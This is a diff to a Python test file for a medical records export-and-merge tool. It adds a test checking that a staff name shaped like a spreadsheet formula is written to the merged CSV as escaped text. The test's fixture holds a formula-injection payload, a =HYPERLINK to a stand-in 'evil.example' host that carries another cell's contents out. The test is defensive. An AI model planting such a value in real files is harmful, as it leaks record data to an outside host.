@@ -18,6 +18,7 @@ from downtime.services import records, staff
 from downtime.services.context import Session
 from downtime.sync.export import export
 from downtime.sync.import_export import import_export
+from downtime.sync.merge import merge
 
 
 def _admin(session, clock):
@@ -150,6 +151,19 @@ def test_the_merged_csv_names_a_doses_witness_of_its_own_laptop(doses_from_lapto
     assert main(["merge", str(merged), str(tmp_path / "carried"), "--out", str(tmp_path / "again")]) == 0
     again, lines = _csv(tmp_path / "again", "medication_administration")
     assert again == columns and [line["witness_name"] for line in lines if line["record_id"] == dose] == ["Hélène Lefèvre"]
+
+
+def test_a_name_a_spreadsheet_would_take_for_a_formula_is_written_as_text(tmp_path, laptop, admission_values):
+    """A laptop's staff directory travels in its export (here an account named before such names
+    were refused): the author_name cell was a live =HYPERLINK(…) in the records office's
+    spreadsheet, where every typed cell has the apostrophe that makes it text."""
+    nurse, clerk = laptop(tmp_path / "1.sqlite", 1)
+    named = '=HYPERLINK("http://evil.example/?"&A2,"Nurse")'
+    nurse.db["staff"].update("nurse", {"name": named})
+    records.save_new(nurse, "admission", admission_values)
+    merged = merge([export(clerk, tmp_path / "stick").folder], tmp_path / "merged").folder
+    _, lines = _csv(merged, "admission")
+    assert [(line["author"], line["author_name"]) for line in lines] == [("nurse", f"'{named}")]
 
 
 def test_an_older_export_without_a_directory_merges_with_empty_names(amended_withdrawn_and_held, tmp_path, capsys):
